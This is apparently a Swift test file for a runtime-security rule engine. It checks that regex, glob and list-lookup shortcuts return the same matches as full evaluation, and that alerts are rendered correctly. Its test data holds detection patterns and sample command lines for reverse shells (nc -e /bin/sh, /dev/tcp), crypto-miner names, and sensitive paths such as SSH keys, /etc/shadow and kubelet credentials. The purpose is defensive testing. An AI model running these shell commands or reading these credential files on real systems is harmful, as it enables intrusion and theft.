import EventModel
import RuleEngine
import Testing

/// The evaluator skips work it can prove useless (a byte search before PCRE2, a length check before hashing a list
/// lookup). These cases pin that the answers stay exactly those of the plain evaluation.
@Suite struct FastPathTests {
    func command(_ line: String) -> Event {
        let words = line.split(separator: " ").map(String.init)
        return execEvent("/bin/" + (words.first ?? "sh"), argv: words)
    }

    @Test("a regex fires exactly when PCRE2 matches, whatever literal prefilter the pattern allows")
    func regexPrefilterKeepsMatches() throws {
        // (pattern, command line, expected)
        let cases: [(String, String, Bool)] = [
            // The benchmark's shapes: a leading group of branches, each starting with a literal.
            (#"(/dev/tcp/|nc\s+-e|bash\s+-i\s+>&|mkfifo\s+/tmp/)"#, "bash -c cat</dev/tcp/10.0.0.1/4444", true),
            (#"(/dev/tcp/|nc\s+-e|bash\s+-i\s+>&|mkfifo\s+/tmp/)"#, "nc -e /bin/sh 10.0.0.1 4444", true),
            (#"(/dev/tcp/|nc\s+-e|bash\s+-i\s+>&|mkfifo\s+/tmp/)"#, "bash -i >& /dev/udp/1", true),
            (#"(/dev/tcp/|nc\s+-e|bash\s+-i\s+>&|mkfifo\s+/tmp/)"#, "bash -c echo", false),
            (#"(/dev/tcp/|nc\s+-e|bash\s+-i\s+>&|mkfifo\s+/tmp/)"#, "ls -la /tmp", false),
            (#"^(xmrig|minerd|cpuminer|xmr-stak|ethminer|t-rex)"#, "xmr-stak --url x", true),
            (#"^(xmrig|minerd|cpuminer|xmr-stak|ethminer|t-rex)"#, "run xmrig", false),
            (#"^/var/lib/kubelet/(pki|kubeconfig)"#, "/var/lib/kubelet/pki/x", true),
            (#"^/var/lib/kubelet/(pki|kubeconfig)"#, "cat /var/lib/kubelet/pki/x", false),
            // An optional last character is not required: "ab?c" matches "ac".
            ("ab?c", "xac", true),
            ("ab*c", "xac", true),
            ("ab{0,2}c", "xac", true),
            ("ab+c", "xabbc", true),
            ("ab+c", "xac", false),
            // The anchor of `^a|b` belongs to the first branch only.
            ("^zz|yy", "xyy", true),
            ("^zz|yy", "xzz", false),
            // A top-level alternation after a leading group: either side may match.
            ("(aa|bb)|cc", "xcc", true),
            ("(aa|bb)cc", "xbbcc", true),
            ("(aa|bb)?cc", "xcc", true),
            // Escaped metacharacters are literals; classes and inline options are left to PCRE2.
            (#"\/dev\/tcp\/"#, "x/dev/tcp/1", true),
            (#"a\.b"#, "axb", false),
            (#"a\.b"#, "a.b", true),
            ("(?i)BASH", "bash -c x", true),
            ("[n]c -e", "nc -e x", true),
            (#"\Qa.b\E"#, "a.b", true),
            ("x|", "anything", true),
            (".*", "anything", true),
            // A plain sequence with classes (K8sCop's URI shapes): its anchored start and later literal runs are
            // all required; quantified characters and classes only separate them.
            ("^/api/v1/namespaces/[a-z0-9][a-z0-9.-]*/secrets$", "/api/v1/namespaces/kube-system/secrets", true),
            ("^/api/v1/namespaces/[a-z0-9][a-z0-9.-]*/secrets$", "/api/v1/namespaces/kube-system/configmaps", false),
            ("^/api/v1/namespaces/[a-z0-9][a-z0-9.-]*/secrets$", "/api/v1/namespaces/a/secrets/x", false),
            ("^/api/v1/namespaces/[a-z0-9][a-z0-9.-]*/secrets$", "x/api/v1/namespaces/a/secrets", false),
            ("^[a-z]+/secrets", "ab/secrets", true),
            ("a[0-9]?b", "xab", true),
            ("a[0-9]?b", "xa1b", true),
            ("x[]]y", "x]y", true),
            ("x[^]]y", "xay", true),
            (#"\d+/pods"#, "12/pods", true),
            (#"\d+/pods"#, "/pods", false),
            (#"a\[b[c]"#, "a[bc", true),
            ("[a-z]{2,3}-node", "ab-node", true),
            ("ab+[0-9]c", "abbb7c", true),
            ("ab+[0-9]c", "ab7", false),
            ("^[.]env$", ".env", true),
            ("^[.]env$", "xenv", false),
            ("^a?[b]c", "bc", true),
            ("^a*[b]c", "aaabc", true),
            ("[[:digit:]]x", "1x", true),
            ("q[a-z]{2}r", "qabr", true),
        ]
        for (pattern, line, expected) in cases {
            // A backslash in a quoted condition value escapes the next character, so it is doubled here.
            let escaped = pattern.split(separator: "\\", omittingEmptySubsequences: false).joined(separator: "\\\\")
            let condition = "proc.cmdline regex '\(escaped)'"
            #expect(try fires(condition, command(line)) == expected, "\(pattern) on \(line)")
        }
    }

    @Test("a glob fires exactly when it matches, whatever its literal start and end")
    func globPrefilterKeepsMatches() throws {
        // (glob, opened path, expected)
        let cases: [(String, String, Bool)] = [
            ("/proc/*/mem", "/proc/42/mem", true),
            ("/proc/*/mem", "/proc/42/memx", false),
            ("/proc/*/mem", "/proc/4/2/mem", false),
            ("/home/*/.ssh/id_*", "/home/al/.ssh/id_rsa", true),
            ("/home/*/.ssh/id_*", "/home/al/.ssh/known_hosts", false),
            ("/run/**", "/run/a/b/c", true),
            ("/run/**", "/var/run/a", false),
            ("**/.bash_history", "/root/.bash_history", true),
            ("*.onion", "abc.onion", true),
            ("/etc/passwd", "/etc/passwd", true),
            ("/etc/passwd", "/etc/passwd-", false),
            // Sets, single characters and escapes at either end.
            ("[/]tmp/*", "/tmp/x", true),
            ("/tmp/?", "/tmp/x", true),
            ("/tmp/?", "/tmp/xy", false),
            ("/tmp/[ab]", "/tmp/b", true),
            (#"/tmp/\*"#, "/tmp/*", true),
            (#"/tmp/\*"#, "/tmp/x", false),
            (#"\/tmp/x"#, "/tmp/x", true),
            ("/tmp/*x", "/tmp/x", true),
            ("/tmp/é*", "/tmp/été", true),
            // `$` also matches before a final newline, so the glob's end may be followed by one.
            ("/tmp/*", "/tmp/x\n", true),
            ("/etc/passwd", "/etc/passwd\n", true),
        ]
        for (glob, path, expected) in cases {
            let escaped = glob.split(separator: "\\", omittingEmptySubsequences: false).joined(separator: "\\\\")
            let condition = "fd.name glob '\(escaped)'"
            #expect(try fires(condition, openEvent(path), events: "[open]") == expected, "\(glob) on \(path)")
        }
    }

    @Test("a large 'in' list finds every member and only members, at any length")
    func largeListLookup() throws {
        let members = [
            "", "a", "sh", "bash", "abcdefg", "abcdefgh", "abcdefghi", "abcdefghX", "Xbcdefghi", "déjà-vu",
            "/etc/shadow", "/etc/shadow-", "/etc/gshadow", String(repeating: "x", count: 62),
            String(repeating: "x", count: 63), String(repeating: "x", count: 64), String(repeating: "y", count: 200),
        ]
        let list = "- list: names\n  items: [" + members.map { "\"\($0)\"" }.joined(separator: ", ") + "]\n"
        func opens(_ path: String) throws -> Bool {
            try fires("fd.name in (names)", openEvent(path), events: "[open]", lists: list)
        }
        for member in members where !member.isEmpty {
            #expect(try opens(member), "\(member.prefix(20)) (\(member.utf8.count) bytes)")
        }
        let others = [
            "b", "s", "bas", "abcdefgX", "abcdefgi", "Xbcdefgh", "/etc/shadow--", "/etc/shadoW",
            String(repeating: "x", count: 61), String(repeating: "x", count: 65), String(repeating: "y", count: 199),
            String(repeating: "y", count: 100), "déjà-vU",
        ]
        for other in others {
            #expect(try !opens(other), "\(other.prefix(20)) (\(other.utf8.count) bytes)")
        }
    }

    @Test("alerts carry the event's process and container and render every output field")
    func alertContents() throws {
        let yaml = """
            - rule:
                id: T9
                name: Two fields
                severity: high
                events: [exec]
                condition: 'proc.name = curl'
                output: "%proc.name ran %proc.cmdline in %container.name (%k8s.pod.label[app])"
            - rule:
                id: T10
                name: One field
                severity: low
                events: [exec]
                condition: 'proc.name = curl'
                output: "cmd %proc.cmdline, 100%% sure"
            """
        var evaluator = RuleEvaluator(ruleSet: try RuleSet.load(yaml: yaml, fileName: "test.yaml"))
        var container = podContainer
        container.labels = ["app": "web"]
        let event = execEvent("/usr/bin/curl", argv: ["curl", "-s", "x"], container: container)
        let alerts = evaluator.evaluate(event)
        #expect(alerts.map(\.ruleID) == ["T9", "T10"])
        #expect(alerts[0].message == "curl ran curl -s x in nginx (web)")
        #expect(
            alerts[0].fields == [
                "proc.name": "curl", "proc.cmdline": "curl -s x", "container.name": "nginx",
                "k8s.pod.label[app]": "web",
            ])
        #expect(alerts[1].message == "cmd curl -s x, 100% sure")
        #expect(alerts[1].fields == ["proc.cmdline": "curl -s x"])
        for alert in alerts {
            #expect(alert.process == event.process)
            #expect(alert.container == container)
            #expect(alert.node == event.node && alert.time == event.time && alert.eventKind == .exec)
        }
        // A field that is absent renders as <NA> and is left out of the fields.
        let host = execEvent("/usr/bin/curl", argv: ["curl"], container: nil)
        let hostAlerts = evaluator.evaluate(host)
        #expect(hostAlerts[0].message == "curl ran curl in <NA> (<NA>)")
        #expect(hostAlerts[0].fields == ["proc.name": "curl", "proc.cmdline": "curl"])
    }
}
